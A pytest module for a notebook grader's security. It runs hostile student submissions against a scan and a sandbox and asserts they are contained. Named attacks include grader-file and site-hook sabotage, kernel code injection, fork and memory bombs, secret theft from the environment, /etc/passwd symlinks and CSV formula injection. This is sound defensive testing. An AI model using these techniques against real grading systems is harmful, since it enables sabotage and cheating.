# What the scan alone judges, or what concerns no kernel: graded with the scan on only.
SCAN_ONLY = {"h07-registry", "h07-importlib", "h07-code-object", "h07-disable", "h07-helpers", "h07-private",
             "h09-link-solution", "h09-link-student", "h09-lesson-06", "h09-result", "h09-fifo", "h09-dev-zero",
             "h09-passwd", "h12-subprocess", "h12-ctypes", "h12-module", CMD, HTML}
# The attacks (graded in both layers) that the scan lets run: none now. Plain file writes and reads and
# signals (h01, h02, h05, h06, h11) need `os`, `signal`, `sys`, off the scan's allow-list: the scan
# reviews them, and the layer with the scan off proves that the sandbox contains them all the same.
SCAN_LETS_RUN = set()
ATTACKS = [label for label, build in CLASS if build is not None and label not in SCAN_ONLY]
LAYERS = ("scanned", "unscanned")


def _student(index, label):
    return f"{index:02d}-{label}"


STUDENTS = {label: _student(index, label) for index, (label, _) in enumerate(CLASS)}
STUDENTS.update({name: name for name, _ in NAMED})


def _build(root, until, last, scanned):
    """Write the class of a layer under `root`; {student folder: facts for the asserts}."""
    facts = {"until": until, "last": last, "ann": STUDENTS["ann"]}
    built = {}
    for label, build in CLASS + NAMED:
        if scanned or label not in SCAN_ONLY:
            folder = root / STUDENTS[label]
            built[STUDENTS[label]] = _honest(folder, label) if build is None else build(folder, facts)
    return built


# ----------------------------------------------------------------------------- the machine, before and after

def _cmdline(pid):
    try:
        return Path(f"/proc/{pid}/cmdline").read_bytes()
    except OSError:
        return b""


def _pids(needle):
    """The processes whose command line holds `needle`."""
    needle = needle.encode() if isinstance(needle, str) else needle
    return sorted(int(p) for p in os.listdir("/proc") if p.isdigit() and needle in _cmdline(p))


def _stat(pid):
    """(parent, start time) of a process, or None when it is gone."""
    try:
        text = Path(f"/proc/{pid}/stat").read_text()
    except OSError:
        return None
    fields = text[text.rindex(")") + 2:].split()
    return int(fields[1]), int(fields[19])


def _descendants(ancestor):
    """{pid: start time} of every process below `ancestor`."""
    parents = {}
    for entry in os.listdir("/proc"):
        if entry.isdigit() and (found := _stat(entry)):
            parents[int(entry)] = found
    below, changed = {}, True
    while changed:
        changed = False
        for pid, (parent, started) in parents.items():
            if pid not in below and (parent == ancestor or parent in below):
                below[pid] = started
                changed = True
    return below


def _alive(processes):
    """Those of {pid: start time} still running (the same process, not a reused pid)."""
    return {pid for pid, started in processes.items() if (now := _stat(pid)) and now[1] == started}


def _eventually(condition, seconds=20):
    """Whether `condition` holds within `seconds` on a quiet machine, stretched here (tests/patience.py)."""
    return patience.eventually(condition, seconds)


def _hashes(paths):
    """{path: sha256 of its content (a link: of its target)} for the files and links among `paths`."""
    return {str(path): hashlib.sha256(os.readlink(path).encode() if path.is_symlink() else path.read_bytes()).hexdigest()
            for path in sorted(paths) if path.is_symlink() or path.is_file()}


def _site_hooks():
    """Python's start-up hooks in the venv and the installation: .pth files and *customize.py."""
    import site

    folders = [Path(f) for f in set(site.getsitepackages()) | {site.getusersitepackages()} if Path(f).is_dir()]
    return [p for folder in folders for p in folder.iterdir()
            if p.suffix == ".pth" or p.name in ("sitecustomize.py", "usercustomize.py")]


def _startup_files():
    """The teacher's IPython startup files (every profile's, in ~/.ipython and in IPYTHONDIR)."""
    folders = {Path.home() / ".ipython", Path(os.environ.get("IPYTHONDIR", Path.home() / ".ipython"))}
    return [p for folder in folders for p in folder.glob("profile_*/startup/*")]


def _temporaries(pid):
    return sorted(Path(tempfile.gettempdir()).glob(f"{grader.TEMPORARY_PREFIX}{pid}-*"))


def _machine():
    """What an attack could leave behind on this machine, to compare before and after: {what: {path: hash}}."""
    return {"grader files": _hashes(p for folder in ("course_teacher", "course_utils") for p in (ROOT / folder).rglob("*")
                                    if "__pycache__" not in p.parts),
            "site hooks": _hashes(_site_hooks()), "IPython startup files": _hashes(_startup_files())}


def _uids(pids):
    """{uid: how many of `pids` it runs now} (the real uid of each)."""
    found = Counter()
    for pid in pids:
        try:
            status = Path(f"/proc/{pid}/status").read_text()
        except OSError:
            continue
        found.update(int(line.split()[1]) for line in status.splitlines() if line.startswith("Uid:"))
    return found


# ----------------------------------------------------------------------------- the runs

def _once(tmp_path_factory, name, make):
    """make() once per test session, whichever xdist worker asks first; the other waits for it and
    reads its result (pickled in the session's shared temporary folder). A run made only once also
    keeps two graders of this module from sharing the two cores."""
    shared = answer_keys.shared_folder(tmp_path_factory)
    done, failed = shared / f"hostile-{RUN}-{name}.pickle", shared / f"hostile-{RUN}-{name}.failed"
    with open(shared / f"hostile-{RUN}-{name}.lock", "w") as lock:
        fcntl.flock(lock, fcntl.LOCK_EX)
        if failed.exists():
            pytest.fail(f"the run {name!r} failed in another worker:\n{failed.read_text()}")
        if done.exists():
            return pickle.loads(done.read_bytes())
        try:
            value = make()
        except BaseException as error:
            failed.write_text(f"{type(error).__name__}: {error}")
            raise
        done.write_bytes(pickle.dumps(value))
        return value


@dataclass
class Run:
    root: Path
    out: Path
    files: dict = field(default_factory=dict)  # {path relative to out: bytes}
    code: int = None
    printed: str = ""
    seconds: float = 0.0

    def rows(self, student=None):
        table = list(csv.DictReader(io.StringIO(self.files["grades.csv"].decode())))
        return [row for row in table if student is None or row["student"] == student]

    def result(self, key):
        return json.loads(self.files[f"{gradebook.safe_folder(key)}/result.json"])

    def feedback(self, key):
        return self.files[f"{gradebook.safe_folder(key)}/feedback.md"].decode()

    def tests(self, key):
        """{exercise: (status, mistake, score)} of a submission's result.json."""
        return {t["test-name"]: (t["status"], t["mistake"], t["score"]) for t in self.result(key)["tests"]}


def _read_out(out):
    return {p.relative_to(out).as_posix(): p.read_bytes() for p in sorted(out.rglob("*")) if p.is_file()}


def _grade_here(root, out):
    """grader.main on `root` in this process (a thread, so that a grader that blocks fails the test)."""
    outcome, printed = {}, io.StringIO()

    def run():
        try:
            outcome["code"] = grader.main([str(root), "--out", str(out), *OPTIONS])
        except BaseException as error:  # noqa: BLE001 (handed to the test)
            outcome["error"] = error

    started = time.monotonic()
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr("sys.stdout", printed)
        thread = threading.Thread(target=run, daemon=True)
        thread.start()
        ended = patience.join(thread, RUN_TIMEOUT_S)
    assert ended, f"the grader ran for more than {time.monotonic() - started:.0f} s on {root}"
    if "error" in outcome:
        raise outcome["error"]
    return Run(root, out, _read_out(out), outcome["code"], printed.getvalue(), time.monotonic() - started)


def _grader_command(root, out, scanned=True, options=OPTIONS):
    """The grader as a teacher runs it, or (scanned=False) the same with the scan off."""
    head = ["-m", "course_teacher.grade"] if scanned else ["-c", UNSCANNED]
    return [sys.executable, *head, str(root), "--out", str(out), *options]


def _key(student):
    label = next(label for label, name in STUDENTS.items() if name == student)
    return f"{student}/{HONEST[label][1][:-len('.ipynb')]}"


HONEST_STUDENTS = [STUDENTS[label] for label in HONEST]


@pytest.fixture(scope="module")
def alone(tmp_path_factory):
    """The honest submissions graded with no attacker among them, before any attack ran: {student: the
    Run} (one run for all six: each submission has a sandbox and a kernel of its own in any run, so
    what an honest neighbour could change is nothing, and one run costs a sixth of the grader's start)."""
    _sandbox_or_skip()

    def make():
        root = tmp_path_factory.mktemp("alone")
        for label in HONEST:
            _honest(root / STUDENTS[label], label)
        run = _grade_here(root, tmp_path_factory.mktemp("alone-out"))
        assert run.code == 0, run.printed
        return {STUDENTS[label]: run for label in HONEST}

    return _once(tmp_path_factory, "alone", make)


@dataclass
class Hostile(Run):
    facts: dict = field(default_factory=dict)
    before: dict = field(default_factory=dict)
    after: dict = field(default_factory=dict)
    pid: int = 0
    stderr: str = ""
    until: float = 0.0
    survivors: list = field(default_factory=list)
    temporaries: list = field(default_factory=list)
    manifest: dict = field(default_factory=dict)
    files_later: dict = field(default_factory=dict)  # the output folder once class 4's time has passed
    alone_later: dict = field(default_factory=dict)  # the honest runs' output folders, then


PLANTED_NOTE = b"the teacher's own notes: the grader must leave them alone\n"


def _grade_class(alone, tmp_path_factory, scanned):
    """The class of a layer graded once, `--jobs 2`, by the grader (scan on or off) in a process of
    its own whose environment holds SECRET; then, once class 4's time has come and gone, what is left."""
    base = tmp_path_factory.mktemp("scanned" if scanned else "unscanned")
    root, out = base / "submissions", base / "grades"
    until = time.time() + OUTLIVE_S
    facts = _build(root, until, until + 120, scanned)
    out.mkdir()
    (out / "notes.txt").write_bytes(PLANTED_NOTE)
    before = _machine()
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv(*SECRET)
        started = time.monotonic()
        process = subprocess.Popen(_grader_command(root, out, scanned), cwd=ROOT, stdout=subprocess.PIPE,
                                   stderr=subprocess.PIPE, text=True)
    try:
        printed, stderr = patience.communicate(process, RUN_TIMEOUT_S)
    except subprocess.TimeoutExpired:
        process.kill()
        printed, stderr = process.communicate()
        pytest.fail(f"the grader ran for more than {time.monotonic() - started:.0f} s (blocked?):\n{printed}\n{stderr}")
    seconds = time.monotonic() - started
    run = Hostile(root, out, _read_out(out), process.returncode, printed, seconds, facts=facts, before=before,
                  pid=process.pid, stderr=stderr, until=until)
    # class 4 acts from `until` on, and as soon as it sees a complete gradebook: give it time to (more
    # time on a busy machine, where a surviving attacker would be slow too)
    margin = patience.seconds(3)
    time.sleep(max(0.0, until + margin - time.time()) + margin)
    run.files_later = _read_out(out)
    run.alone_later = {student: _read_out(earlier.out) for student, earlier in alone.items()}
    run.after = _machine()
    run.survivors = _pids(CLASS_MARK) + _pids(f"{grader.TEMPORARY_PREFIX}{process.pid}-")
    run.temporaries = _temporaries(process.pid)
    run.manifest = json.loads(run.files[gradebook.MANIFEST])
    return run


@pytest.fixture(scope="module")
def scanned(alone, tmp_path_factory):
    """Layer 1: the class graded by `python -m course_teacher.grade`, the scan on."""
    return _once(tmp_path_factory, "scanned", lambda: _grade_class(alone, tmp_path_factory, scanned=True))


@pytest.fixture(scope="module")
def unscanned(alone, tmp_path_factory):
    """Layer 2: the honest submissions and the attacks graded with the scan off (UNSCANNED)."""
    return _once(tmp_path_factory, "unscanned", lambda: _grade_class(alone, tmp_path_factory, scanned=False))


@pytest.fixture(scope="module")
def later(scanned, unscanned, tmp_path_factory):
    """The honest submissions graded again, all together, after both hostile runs."""

    def make():
        root = tmp_path_factory.mktemp("later")
        for student in HONEST_STUDENTS:
            shutil.copytree(unscanned.root / student, root / student)
        return _grade_here(root, tmp_path_factory.mktemp("later-out"))

    return _once(tmp_path_factory, "later", make)


@pytest.fixture(params=LAYERS)
def layer(request):
    """A test of what both layers must hold: the run of each in turn."""
    return request.getfixturevalue(request.param)


def _keys(run, student):
    return sorted({row["submission"][:-len(".ipynb")] for row in run.rows(student)})


def _notes(run, key):
    feedback = run.feedback(key)
    return feedback[feedback.index("## Notes"):] if "## Notes" in feedback else ""


def _honest_files(run, student):
    key = _key(student)
    return {name: run.files[f"{gradebook.safe_folder(key)}/{name}"] for name in ("result.json", "feedback.md")}


def _review(run, label, *expected):
    """Every exercise 0 for review (nothing ran), the cell and the code named in CSV and feedback."""
    student = STUDENTS[label]
    rows = run.rows(student)
    assert rows and all((r["status"], r["mistake"], r["points"]) == ("failed", "REVIEW", "0") for r in rows), rows
    for text in expected:
        assert all(text in r["review"] for r in rows), (text, rows)
    facts = run.facts[student]
    cell = (facts["cells"] or [facts["exercises"]["00.padding_mask"]])[0]
    feedback = run.feedback(_keys(run, student)[0])
    assert "for the teacher's review" in feedback and f"Cell {cell} (" in feedback, feedback


def _tests_of(run, student):
    (key,) = _keys(run, student)
    return run.tests(key)


def _proof(run, label, number):
    """What an attack's cell found, from its feedback: the proof that it ran (in the sandbox)."""
    student = STUDENTS[label]
    feedback = run.feedback(_keys(run, student)[0])
    proof = f"HOSTILE-{number} ran: "
    assert proof in feedback, feedback
    found = feedback[feedback.index(proof) + len(proof):].split("\n")[0]
    return found.split(" The grader skipped it")[0].removesuffix(".")  # a cell's note ends so


ALL_PASSED = {e: ("passed", "", 1) for e in ("00.padding_mask", "00.scores_einsum", "00.split_heads", "00.merge_heads")}
# The proof's name of each attack, and the attacks that run in each layer.
NUMBERS = {"h01-grader-files": 1, "h02-startup": 2, "h03-inject": 3, "h04-outlive": 4, "h05-kill": 5,
           "h06-environ": 6, "h07-reach": 7, "h08-solutions": 8, "h11-fork-bomb": "11-fork",
           "h11-memory": "11-memory", "h11-disk": "11-disk", "h11-answers": "11-answers"}


# The learner's cell an attack adds, just before lesson 00's first exercise: its number (from 1).
ATTACK_CELL = render(L00, "en").cells.index(exercise_cell(render(L00, "en"), "00.padding_mask")) + 1

REVIEWED = {  # label: what the review column names (the scan's words), for the code the scan cannot read
    "h03-inject": (f"os.fork() (cell {ATTACK_CELL})", f"from jupyter_client import BlockingKernelClient (cell {ATTACK_CELL})"),
    "h04-outlive": (f"os.fork() (cell {ATTACK_CELL})",),
    "h07-reach": (f"from course_teacher.exercises import EXERCISES (cell {ATTACK_CELL})",),
    "h08-solutions": (f"exec('import torch\\n' + ''.join(cell['source']), namespace) (cell {ATTACK_CELL})",),
    "h11-fork-bomb": (f"os.fork() (cell {ATTACK_CELL})",),
    "h11-memory": (f"os.fork() (cell {ATTACK_CELL})",),
    "h11-answers": (f"import course_utils.exercises.wire as wire (cell {ATTACK_CELL})",),
    "h07-registry": (f"from course_teacher.exercises import EXERCISES (cell {ATTACK_CELL})",),
    "h07-importlib": (f"import importlib (cell {ATTACK_CELL})",),
    "h07-private": ("from course_utils.exercises.l06_transformer import",),
    "h12-subprocess": (f"import subprocess, sys (cell {ATTACK_CELL})",),
    "h12-ctypes": (f"import ctypes (cell {ATTACK_CELL})",),
    "h12-module": (f"import helpers (cell {ATTACK_CELL})", f"sys.path.insert(0, os.path.expanduser('~')) (cell {ATTACK_CELL})"),
    **{label: (f"import errno, json, os, signal, sys, time (cell {ATTACK_CELL})",)
       for label in ("h01-grader-files", "h02-startup", "h05-kill", "h06-environ", "h11-disk")},
}


# ----------------------------------------------------------------------------- (a) the neighbours

def test_the_honest_submissions_are_graded_in_each_layer_as_they_are_alone(alone, layer):
    assert layer.code == 0, layer.printed + layer.stderr  # every submission graded, the grader alive
    two = STUDENTS["h09-result"] in layer.facts  # 21-h09-result: two notebooks
    assert f"graded {len(layer.facts) + two} submission(s)" in layer.printed
    for student, run in alone.items():
        assert _honest_files(layer, student) == _honest_files(run, student), student
        assert layer.rows(student) == run.rows(student), student
    scores = {student: run.result(_key(student))["score"] for student, run in alone.items()}
    assert scores == {STUDENTS["ann"]: 4, STUDENTS["bo"]: 4, STUDENTS["kim"]: 2, STUDENTS["li"]: 3,
                      STUDENTS["pat"]: 2, STUDENTS["ula"]: 3}
    assert {r["mistake"] for r in alone[STUDENTS["kim"]].rows(STUDENTS["kim"])} == {"", "NO_UNSQUEEZE",
                                                                                     "RESHAPE_NO_PERMUTE"}


def test_a_later_run_gives_the_same_bytes_again(alone, later):
    """What the hostile runs left behind (files, processes, a startup file, ...) changes nothing later."""
    assert later.code == 0, later.printed
    for student, run in alone.items():
        assert _honest_files(later, student) == _honest_files(run, student), student
        assert later.rows(student) == run.rows(student), student


# ----------------------------------------------------------------------------- the two layers

def test_scan_on_code_it_cannot_read_is_for_review_and_nothing_of_it_runs(scanned):
    """The attacks that fork, exec, start processes, load C, reach the grading machinery or write a
    module to import: every exercise 0 for the teacher's review, the cell named, no proof of a run."""
    assert set(ATTACKS) - SCAN_LETS_RUN <= set(REVIEWED)
    for label, constructs in REVIEWED.items():
        _review(scanned, label, *constructs)
        assert "HOSTILE-" not in scanned.feedback(_keys(scanned, STUDENTS[label])[0]), label


def test_scan_on_the_attacks_it_lets_through_run_and_only_those(scanned):
    for label in ATTACKS:
        rows = scanned.rows(STUDENTS[label])
        if label in SCAN_LETS_RUN:
            assert not {r["mistake"] for r in rows} & {"REVIEW", "FORBIDDEN"} and not any(r["review"] for r in rows)
            _proof(scanned, label, NUMBERS[label])
        else:
            assert {r["mistake"] for r in rows} == {"REVIEW"}, (label, rows)


def test_scan_off_nothing_is_for_review_and_every_attack_runs(unscanned):
    """The scan really was off (the attacks it reviews in layer 1 ran), and each left its proof."""
    assert {r["mistake"] for r in unscanned.rows()} & {"REVIEW", "FORBIDDEN"} == set()
    assert not any(r["review"] for r in unscanned.rows())
    assert {STUDENTS[label] for label in ATTACKS} <= set(unscanned.facts)
    for label in ATTACKS:
        _proof(unscanned, label, NUMBERS[label])


# ----------------------------------------------------------------------------- (c) nothing survives

def _changed(before, after):
    """The files that differ after the run ({path: hash} before and after). Under CI nothing else
    touches them: every change counts. Elsewhere someone may be editing the repository or running
    IPython while the tests run: a change counts when the file is gone or holds an attack's mark
    (every file an attack writes does)."""
    changed = sorted(path for path in set(before) | set(after) if before.get(path) != after.get(path))
    if os.environ.get("CI"):
        return changed
    return [path for path in changed if not Path(path).exists() or b"HOSTILE-" in Path(path).read_bytes()]


def test_nothing_of_the_attacks_survives_the_run(layer):
    assert layer.survivors == [], [_cmdline(pid) for pid in layer.survivors]
    assert layer.temporaries == [], "the run's temporary folder is left"
    assert _temporaries(os.getpid()) == [], "a run in this process left its temporary folder"
    for what, before in layer.before.items():
        assert _changed(before, layer.after[what]) == [], what


def test_the_output_folder_holds_what_the_gradebook_wrote_and_what_the_teacher_planted(layer):
    assert layer.manifest["complete"] is True
    assert set(layer.files) == set(layer.manifest["files"]) | {gradebook.MANIFEST, "notes.txt"}
    assert layer.files["notes.txt"] == PLANTED_NOTE
    assert layer.files_later == layer.files, "the output folder changed after the run"
    assert not [name for name in layer.files if name.endswith(".part")]


# ----------------------------------------------------------------------------- (b) each class

def test_01_the_grader_files_stay_as_they_were(unscanned):
    layer = unscanned
    student = STUDENTS["h01-grader-files"]
    assert _tests_of(layer, student) == ALL_PASSED  # right answers, and an attack that wrote nothing
    notes = _notes(layer, _keys(layer, student)[0])
    (cell,) = layer.facts[student]["cells"]
    assert f"Cell {cell} (" in notes and "HOSTILE-1 ran: written=0 " in notes, notes
    for what in ("grader files", "site hooks"):
        assert _changed(layer.before[what], layer.after[what]) == [], what


def test_02_a_startup_file_stays_in_the_kernels_own_home(unscanned):
    layer = unscanned
    student = STUDENTS["h02-startup"]
    # scores_einsum passes in the fresh kernel started after the second cell killed the first: that
    # kernel read no startup file
    assert _tests_of(layer, student) == ALL_PASSED
    notes = _notes(layer, _keys(layer, student)[0])
    assert f"HOSTILE-2 ran: written=1 in {sandbox.HOME}/.ipython/profile_default/startup " in notes, notes
    assert f"kernel died while cell {layer.facts[student]['cells'][1]} " in notes, notes
    assert _changed(layer.before["IPython startup files"], layer.after["IPython startup files"]) == []


def test_03_no_kernel_reaches_another(unscanned):
    student = STUDENTS["h03-inject"]
    assert _tests_of(unscanned, student) == ALL_PASSED
    # no connection file but its own, anywhere; and its detached process, which kept looking, died
    assert _proof(unscanned, "h03-inject", 3) == "others=0 injected=0"
    assert not _pids(f"{CLASS_MARK}-3")


def test_04_nothing_outlives_the_grader_to_rewrite_the_grades(unscanned):
    assert time.time() > unscanned.until + 3  # the time the attack waited for has come, and gone
    student = STUDENTS["h04-outlive"]
    assert _tests_of(unscanned, student) == ALL_PASSED
    assert _proof(unscanned, "h04-outlive", 4) == "gradebook_files_seen=0"
    assert not _pids(f"{CLASS_MARK}-4")
    assert unscanned.files_later == unscanned.files
    for student, files in unscanned.alone_later.items():
        assert b"HOSTILE-4" not in b"".join(files.values()), student


def test_05_killing_every_process_in_sight_kills_only_its_own_kernel(unscanned):
    layer = unscanned
    student = STUDENTS["h05-kill"]
    assert _tests_of(layer, student) == ALL_PASSED  # the grader restarted its kernel and went on
    notes = _notes(layer, _keys(layer, student)[0])
    assert "HOSTILE-5 ran: " in notes and " wrote=0 killed=0 groups=0 " in notes, notes
    assert f"kernel died while cell {layer.facts[student]['cells'][1]} " in notes, notes
    assert layer.code == 0 and "graded" in layer.printed  # the grader itself lived


def test_06_the_graders_secret_is_in_no_output(layer):
    secret = SECRET[1].encode()
    for name, content in {**layer.files, **layer.files_later}.items():
        assert secret not in content, name
    assert SECRET[1] not in layer.printed + layer.stderr


def test_06_the_environment_a_kernel_reads_is_its_own(unscanned):
    layer = unscanned
    student = STUDENTS["h06-environ"]
    key = _keys(layer, student)[0]
    notes = _notes(layer, key)
    assert "HOSTILE-6 ran: read=" in notes and "found=none" in notes, notes
    # its function raised with every variable of its environment: none of the grader's
    (status, mistake, _) = _tests_of(layer, student)["00.padding_mask"]
    assert (status, mistake) == ("crashed", "RuntimeError")
    message = next(t["message"] for t in layer.result(key)["tests"] if t["test-name"] == "00.padding_mask")
    assert f"HOME={sandbox.HOME}" in message and SECRET[0] not in message, message


def test_07_the_answers_are_out_of_reach(unscanned):
    """Run, the registry and the old private reference are not in the sandbox at all."""
    reach = _tests_of(unscanned, STUDENTS["h07-reach"])
    assert reach == {**ALL_PASSED, "00.padding_mask": ("crashed", "CELL_ERROR", 0)}
    assert _proof(unscanned, "h07-reach", 7).startswith(
        "course_teacher=ModuleNotFoundError private=ModuleNotFoundError")


def test_07_the_scan_scores_a_forbidden_function_reached_0(scanned):
    code_object = {r["exercise"]: r["mistake"] for r in scanned.rows(STUDENTS["h07-code-object"])}
    assert code_object == {"00.padding_mask": "REVIEW", "00.scores_einsum": "REVIEW", "00.split_heads": "FORBIDDEN",
                           "00.merge_heads": "REVIEW"}
    cell = scanned.facts[STUDENTS["h07-code-object"]]["exercises"]["00.split_heads"]
    assert all(r["review"] == f"split_heads.__code__ (cell {cell})" for r in scanned.rows(STUDENTS["h07-code-object"]))
    disable = _tests_of(scanned, STUDENTS["h07-disable"])  # torch._C: off the allow-list, reviewed
    assert disable == {"00.padding_mask": ("failed", "REVIEW", 0), "00.scores_einsum": ("failed", "REVIEW", 0),
                       "00.split_heads": ("failed", "FORBIDDEN", 0), "00.merge_heads": ("failed", "FORBIDDEN", 0)}
    feedback = scanned.feedback(_keys(scanned, STUDENTS["h07-disable"])[0])
    assert "uses `course_utils.multihead.merge_heads`, which this exercise forbids" in feedback, feedback
    helpers = _tests_of(scanned, STUDENTS["h07-helpers"])
    assert helpers == {"02.causal_mask": ("failed", "FORBIDDEN", 0), "02.decoder_mask": ("passed", "", 1),
                       "02.masked_softmax": ("failed", "FORBIDDEN", 0)}


def test_07_the_old_private_references_are_gone():
    import importlib.util

    assert importlib.util.find_spec("course_utils.exercises.l06_transformer") is None
    package = Path(course_utils.__file__).parent
    assert not [p for p in package.rglob("*.py") if "_masks_reference" in p.read_text(encoding="utf-8")]


def test_08_no_solution_notebook_or_history_is_in_reach(unscanned):
    student = STUDENTS["h08-solutions"]
    tests = _tests_of(unscanned, student)
    assert tests["00.padding_mask"] == ("crashed", "CELL_ERROR", 0) and unscanned.result(
        _keys(unscanned, student)[0])["score"] == 0
    # bwrap itself names course_teacher's launch.py in its command line: the grader is not in sight
    assert _proof(unscanned, "h08-solutions", 8).startswith("solutions=0 notebooks=0 history=0 ")


def test_09_links_pipes_and_misnamed_notebooks_are_reported_not_read(scanned):
    link, special = submission.reason("NOT_REGULAR", "en", "link"), submission.reason("NOT_REGULAR", "en", "special")
    for label, why in (("h09-link-solution", link), ("h09-link-student", link), ("h09-dev-zero", link),
                       ("h09-passwd", link)):
        rows = scanned.rows(STUDENTS[label])
        assert [(r["exercise"], r["status"], r["mistake"]) for r in rows] == [
            (e, "crashed", "NOT_REGULAR") for e in ALL_PASSED], rows
        assert why in scanned.feedback(_keys(scanned, STUDENTS[label])[0])
    fifo = scanned.rows(STUDENTS["h09-fifo"])
    assert [(r["lesson"], r["exercise"], r["status"], r["mistake"], r["max_points"]) for r in fifo] == [
        ("", "", "crashed", "NOT_REGULAR", "0")]
    assert special in scanned.feedback(f"{STUDENTS['h09-fifo']}/x")
    wrong = scanned.rows(STUDENTS["h09-lesson-06"])
    assert {(r["lesson"], r["status"], r["mistake"]) for r in wrong} == {("06", "failed", "WRONG_LESSON")}
    assert len(wrong) == 3
    # a notebook named result.json, in a folder named like another notebook's output: each its own files
    student = STUDENTS["h09-result"]
    assert _keys(scanned, student) == [student, f"{student}/result.json"]
    assert all(scanned.result(key)["score"] == 4 for key in _keys(scanned, student))
    assert gradebook.safe_folder(f"{student}/result.json").startswith(f"{student}/result.json~")
    assert f"{student}/result.json" in scanned.files  # the first's result, a file, beside the second's folder
    for name, content in scanned.files.items():
        assert PASSWD_FIRST.encode() not in content, name


def test_10_names_and_messages_from_submissions_stay_inert(scanned):
    rows = list(csv.reader(io.StringIO(scanned.files["grades.csv"].decode())))
    assert all(len(row) == 9 for row in rows)
    formula = [row for row in rows if row[0].startswith("'=cmd")]
    assert len(formula) == 4 and all(row[7].startswith("'=cmd") for row in formula)
    assert not [cell for row in rows for cell in row if cell.startswith(("=", "+", "-", "@"))]
    assert {row[0] for row in formula} == {gradebook.csv_cell(CMD)} == {"'" + CMD}
    assert scanned.tests(f"{CMD}/00_tensor_shapes") == ALL_PASSED
    folder = gradebook.safe_folder(f"{CMD}/00_tensor_shapes")
    assert not set(folder) & set("=|'!") and f"{folder}/result.json" in scanned.files
    # a name with line breaks and HTML, and a function whose error forges a verdict and a score
    student = gradebook.clean_line(HTML)
    (html_row,) = {r["student"] for r in scanned.rows(student)}
    assert "\n" not in html_row and html_row == student
    assert _keys(scanned, student) == [gradebook.clean_line(f"{HTML}/00_tensor_shapes")]
    key = f"{HTML}/00_tensor_shapes"  # the files' folder comes from the key itself, made safe
    assert "\n" not in gradebook.safe_folder(key) and "<" not in gradebook.safe_folder(key)
    assert scanned.tests(key)["00.padding_mask"] == ("crashed", "ValueError", 0)
    assert scanned.result(key)["score"] == 3
    feedback = scanned.feedback(key)
    headings = [line for line in feedback.splitlines() if line.startswith("#")]
    assert headings[0].startswith("# Feedback on ") and headings[1:] == [
        f"## {e} ({p} / 1)" for e, p in zip(ALL_PASSED, (0, 1, 1, 1))], headings
    assert "<img" not in feedback and "<b>" not in feedback and "&lt;img" in feedback


def test_11_resource_attacks_stay_in_their_sandbox(unscanned):
    for label in ("h11-fork-bomb", "h11-memory"):
        assert _tests_of(unscanned, STUDENTS[label]) == ALL_PASSED, label
    fork = _proof(unscanned, "h11-fork-bomb", "11-fork")
    if os.geteuid() == 0:  # the kernel has a uid of its own, and NPROC holds it
        children = int(fork.split("children=")[1].split()[0])
        assert "error=EAGAIN" in fork and children < 256, fork
    assert _proof(unscanned, "h11-memory", "11-memory").startswith("processes=4 each=512MB exit_codes=[0, 0, 0, 0]")
    # answers planted as a link to /dev/zero, a pipe and a link to /etc/passwd: refused, not read, not waited for
    student = STUDENTS["h11-answers"]
    assert _tests_of(unscanned, student) == {"00.padding_mask": ("crashed", "NO_RESULT", 0),
                                             "00.scores_einsum": ("crashed", "NO_RESULT", 0),
                                             "00.split_heads": ("crashed", "NO_RESULT", 0),
                                             "00.merge_heads": ("passed", "", 1)}
    feedback = unscanned.feedback(_keys(unscanned, student)[0])
    assert "(no answer file)" in feedback and "(an answer that is not a regular file)" in feedback, feedback
    assert _proof(unscanned, "h11-answers", "11-answers").startswith("answers planted")


CAPS = {sandbox.CWD: 0, sandbox.HOME: sandbox.HOME_BYTES, "/tmp": sandbox.TMP_BYTES, "/dev/shm": sandbox.SHM_BYTES,
        sandbox.WORK: sandbox.WORK_BYTES}


def test_11_a_kernel_fills_only_its_own_capped_memory_folders(unscanned):
    """Every folder the kernel may write is read-only (its working folder) or a memory file system of
    its own with a size cap (sandbox.py): the attack, which writes 48 MB files up to 512 MB in each,
    stops at each cap, and nothing reaches the host's disk."""
    layer = unscanned
    found = {}
    for item in _proof(layer, "h11-disk", "11-disk").split():
        folder, outcome = item.rsplit("=", 1)
        written, error = outcome.split(":")
        found[folder] = (int(written[:-len("MB")]) * 2**20, error)
    assert set(found) == set(CAPS), found
    for folder, (written, error) in found.items():
        assert written <= CAPS[folder] and error in ("ENOSPC", "EROFS", "EFBIG"), (folder, found)
    assert found[sandbox.CWD] == (0, "EROFS")
    assert _tests_of(layer, STUDENTS["h11-disk"]) == ALL_PASSED


# ----------------------------------------------------------------------------- the payloads work

def test_payload_1_appends_to_every_grader_file_it_can_write(tmp_path):
    """Outside the sandbox, on a copy of the tree it looks for, the attack writes every file."""
    attack = _load_payload(GRADER_FILES, "grader_files")
    package = tmp_path / "repository" / "course_utils"
    targets = attack["targets"](str(package), [str(tmp_path / "site")])
    for target in targets:
        Path(target).parent.mkdir(parents=True, exist_ok=True)
        Path(target).write_text("# the original\n")
    report = attack["attack"](str(package), [str(tmp_path / "site")])
    assert report == f"written={len(targets)} errors=none"
    assert {str(ROOT / p.relative_to(tmp_path / "repository")) for p in map(Path, targets)
            if "repository" in p.parts} >= {str(ROOT / "course_teacher/grade/grader.py"),
                                            str(ROOT / "course_utils/exercises/kernel.py"),
                                            str(ROOT / "course_utils/exercises/grading.py")}
    assert all(Path(t).read_text().endswith(attack["SABOTAGE"]) for t in targets)
    # and the site-packages it aims at by default are this venv's, where Python's start-up hooks are
    import site

    defaults = {os.path.dirname(t) for t in attack["targets"]() if t.endswith("sitecustomize.py")}
    assert set(site.getsitepackages()) & defaults, defaults


def test_payload_2_writes_an_ipython_startup_file_in_home(tmp_path):
    report = _load_payload(STARTUP, "startup")["attack"]([str(tmp_path)])
    startup = tmp_path / ".ipython" / "profile_default" / "startup" / "00-hostile-2.py"
    assert report.startswith("written=1 ") and "torch.einsum = " in startup.read_text()


def test_payload_3_finds_another_kernel_and_runs_code_in_it(tmp_path):
    """Outside the sandbox it finds the connection file of a kernel (an unsandboxed one of the test's
    own: it looks nowhere else, and not in /proc, where other tests' kernels are) and runs code there."""
    victim = Kernel(tmp_path / "victim" / "kernel", 2048, sandboxed=False)
    victim.folder.mkdir(parents=True)
    victim.start()
    try:
        attack = _load_payload(INJECT, "inject")
        report = attack["attack"]([str(tmp_path)], code="HOSTILE_3_INJECTED = 42", proc=False)
        assert report == "others=1 injected=1"
        assert victim.run("assert HOSTILE_3_INJECTED == 42", patience.seconds(30)).ok
    finally:
        victim.kill()


